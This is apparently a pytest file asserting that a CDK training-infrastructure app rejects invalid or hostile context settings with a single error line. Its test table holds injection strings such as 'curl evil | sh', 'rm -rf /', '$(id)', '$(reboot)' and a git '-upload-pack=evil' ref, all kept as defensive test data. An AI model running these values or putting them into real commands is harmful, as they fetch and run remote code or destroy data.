"""app.py, as the CDK CLI runs it (the whole context in CDK_CONTEXT_JSON: cdk.json's "context", the -c values as
strings, the CLI's own aws:cdk:* and @aws-cdk/* keys): every hostile or mistaken setting stops synth with one line
on stderr naming the key, exit status 2, no traceback and nothing synthesized. HOSTILE is the table the issue's
closing note reports."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

ROOT = Path(__file__).resolve().parents[2]
pytestmark = pytest.mark.slow  # one app.py process per setting, about 2 s each

# What `cdk synth` adds to cdk.json's context (CDK CLI 2.1148, seen in CDK_CONTEXT_JSON).
CLI_KEYS: dict[str, Any] = {"aws:cdk:enable-path-metadata": True, "aws:cdk:enable-asset-metadata": True,
                            "aws:cdk:version-reporting": True, "aws:cdk:bundling-stacks": ["**"],
                            "@aws-cdk/core:failSynthOnValidationErrors": False}

HOSTILE: list[tuple[str, dict[str, Any], str]] = [
    # (how, context overrides, the line's start); "-c": strings as the CLI passes them, "cdk.json": JSON types
    ("-c", {"maxRuntimeHour": "3"}, "context key 'maxRuntimeHour' is unknown; did you mean 'maxRuntimeHours'?"),
    ("-c", {"instanceType": "g5.xlarge"}, "context key 'instanceType' is unknown; did you mean 'instanceTypes'?"),
    ("-c", {"gitref": "v2"}, "context key 'gitref' is unknown; did you mean 'gitRef'?"),
    ("-c", {"epochs": "40"}, "context key 'epochs' is unknown (known keys: "),
    ("-c", {"trainArgs": "--epohcs 40"}, "context key 'trainArgs': '--epohcs 40' is not allowed; `python -m "
                                         "training train` says: unrecognized arguments: --epohcs 40"),
    ("-c", {"trainArgs": "--epochs abc"}, "context key 'trainArgs': '--epochs abc' is not allowed; `python -m "
                                          "training train` says: argument --epochs: must be a positive integer, "
                                          "got 'abc'"),
    ("-c", {"trainArgs": "--features bogus"}, "context key 'trainArgs': '--features bogus' is not allowed; `python "
                                              "-m training train` says: argument --features: invalid choice"),
    ("-c", {"trainArgs": "--help"}, "context key 'trainArgs': '--help' is not allowed; `python -m training train` "
                                    "says: unrecognized arguments: --help"),
    ("-c", {"trainArgs": "--epochs 3; curl evil | sh"}, "context key 'trainArgs': '--epochs 3; curl evil | sh' is "
                                                        "not allowed; expected `python -m training train` flags"),
    ("-c", {"trainArgs": "--epochs `id`"}, "context key 'trainArgs': '--epochs `id`' is not allowed"),
    ("-c", {"trainArgs": "--data s3://x/y.csv"}, "context key 'trainArgs': '--data s3://x/y.csv' is not allowed; "
                                                 "expected no --data, --output, --run-id"),
    ("-c", {"trainArgs": "--epochs 3\n"}, "context key 'trainArgs': '--epochs 3\\n' is not allowed; expected a value "
                                          "without line breaks"),
    ("-c", {"maxRuntimeHours": "-1"}, "context key 'maxRuntimeHours': '-1' is not allowed"),
    ("-c", {"maxRuntimeHours": "1e9"}, "context key 'maxRuntimeHours': '1e9' is not allowed"),
    ("-c", {"maxRuntimeHours": "NaN"}, "context key 'maxRuntimeHours': 'NaN' is not allowed"),
    ("cdk.json", {"maxRuntimeHours": 10**30}, "context key 'maxRuntimeHours': "),
    ("-c", {"retainArtifacts": "yes"}, "context key 'retainArtifacts': 'yes' is not allowed; expected true or false"),
    ("cdk.json", {"retainArtifacts": 1}, "context key 'retainArtifacts': 1 is not allowed"),
    ("cdk.json", {"logRetentionDays": True}, "context key 'logRetentionDays': True is not allowed"),
    ("-c", {"repoUrl": "https://x/y.git;curl evil|sh"}, "context key 'repoUrl': "),
    ("-c", {"repoUrl": "https://git.example.com/team/repo.git\n"}, "context key 'repoUrl': "),
    ("-c", {"repoUrl": "https://git.example.com/team/$(id).git"}, "context key 'repoUrl': "),
    ("-c", {"repoUrl": "https://git.example.com/team/my repo.git"}, "context key 'repoUrl': "),
    ("-c", {"repoUrl": "https://me:ghp_secret@git.example.com/team/repo.git"},
     "context key 'repoUrl': 'https://***@git.example.com/team/repo.git' is not allowed; expected an https URL "
     "without credentials"),
    ("cdk.json", {"repoUrl": ["https://git.example.com/team/repo.git"]}, "context key 'repoUrl': "),
    ("-c", {"gitRef": "main; rm -rf /"}, "context key 'gitRef': "),
    ("-c", {"gitRef": "`id`"}, "context key 'gitRef': "),
    ("-c", {"gitRef": "main\n"}, "context key 'gitRef': 'main\\n' is not allowed; expected a value without line "
                                 "breaks"),
    ("-c", {"gitRef": "'main'"}, "context key 'gitRef': "),
    ("-c", {"gitRef": "-upload-pack=evil"}, "context key 'gitRef': "),
    ("-c", {"dataUri": "s3://lc-data/$(id).csv"}, "context key 'dataUri': "),
    ("-c", {"dataUri": "s3://lc-data/a b.csv"}, "context key 'dataUri': "),
    ("-c", {"dataUri": "https://example.com/loans.csv"}, "context key 'dataUri': "),
    ("-c", {"notifyEmail": "me@example.com; rm -rf /"}, "context key 'notifyEmail': "),
    ("-c", {"notifyEmail": "me@example.com\n"}, "context key 'notifyEmail': "),
    ("-c", {"instanceTypes": '["g5.xlarge", 1]'}, "context key 'instanceTypes': 1 is not allowed"),
    ("-c", {"instanceTypes": "g5.xlarge,g5.xlarge"}, "context key 'instanceTypes': "),
    ("-c", {"instanceTypes": "[" * 20000}, "context key 'instanceTypes': "),
    ("cdk.json", {"instanceTypes": []}, "context key 'instanceTypes': [] is not allowed"),
    ("cdk.json", {"instanceTypes": "g5.xlarge $(reboot)"}, "context key 'instanceTypes': "),
    ("-c", {"capacity": "reserved"}, "context key 'capacity': 'reserved' is not allowed; expected one of spot, "
                                     "on-demand"),
    ("-c", {"capacity": "on-demand", "maxSpotPrice": "0.5"}, "context key 'maxSpotPrice': '0.5' is not allowed; "
                                                             "expected no value when capacity=on-demand"),
    ("-c", {"maxSpotPrice": "-0.2"}, "context key 'maxSpotPrice': "),
    ("-c", {"artifactBucket": "My_Bucket"}, "context key 'artifactBucket': 'My_Bucket' is not allowed"),
    ("-c", {"rootVolumeGiB": "20"}, "context key 'rootVolumeGiB': "),
    ("-c", {"checkpointExpiryDays": "0"}, "context key 'checkpointExpiryDays': "),
    ("-c", {"heartbeatMinutes": "7.5"}, "context key 'heartbeatMinutes': "),
    ("-c", {"maxAttempts": "0"}, "context key 'maxAttempts': "),
    ("-c", {"stackName": "1-spotgrade"}, "context key 'stackName': "),
    ("-c", {"runId": "exp 7"}, "context key 'runId': "),
    ("-c", {"amiParameter": "ami-0123456789abcdef0"}, "context key 'amiParameter': "),
    ("-c", {"repoTokenSecret": "tok;id"}, "context key 'repoTokenSecret': 'tok;id' is not allowed; expected a "
                                          "Secrets Manager secret name"),
    ("-c", {"repoTokenSecret": "ghp_" + "A1b2" * 9}, "context key 'repoTokenSecret': the value looks like a token "
                                                     "itself (not shown)"),
    ("-c", {"allowUnpushedCode": "yes"}, "context key 'allowUnpushedCode': 'yes' is not allowed; expected true or "
                                         "false"),
]


def run_app(overrides: dict[str, Any], outdir: Path) -> subprocess.CompletedProcess[str]:
    context = {**json.loads((ROOT / "cdk.json").read_text())["context"], **overrides, **CLI_KEYS}
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "CDK_CONTEXT_JSON": json.dumps(context),
           "CDK_OUTDIR": str(outdir), "JSII_SILENCE_WARNING_END_OF_LIFE_NODE_VERSION": "20"}
    return subprocess.run([sys.executable, "app.py"], cwd=ROOT, capture_output=True, text=True, env=env, timeout=300)


def test_the_table_covers_every_setting_and_at_least_30_cases() -> None:
    from training.cloud.core.settings import DEFAULTS

    named = {key for _, overrides, _ in HOSTILE for key in overrides}
    assert set(DEFAULTS) <= named and len(HOSTILE) >= 30


@pytest.mark.parametrize(("how", "overrides", "answer"), HOSTILE,
                         ids=[f"{how}:{json.dumps(o)[:60]}" for how, o, _ in HOSTILE])
def test_a_hostile_setting_is_one_line_and_exit_2(tmp_path: Path, how: str, overrides: dict[str, Any],
                                                  answer: str) -> None:
    done = run_app(overrides, tmp_path / "cdk.out")
    assert done.returncode == 2, done.stderr[-2000:]
    assert done.stderr.startswith(f"error: {answer}"), done.stderr[:500]
    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr
    assert not (tmp_path / "cdk.out" / "manifest.json").exists()


def test_the_clis_own_context_keys_synthesize(tmp_path: Path) -> None:
    """cli-telemetry (cdk.json), aws:cdk:* and @aws-cdk/* flags are the CLI's: no refusal."""
    done = run_app({"runId": "exp-7", "acknowledged-issue-numbers": [32775]}, tmp_path / "cdk.out")
    assert done.returncode == 0, done.stderr[-2000:]
    assert (tmp_path / "cdk.out" / "manifest.json").exists()
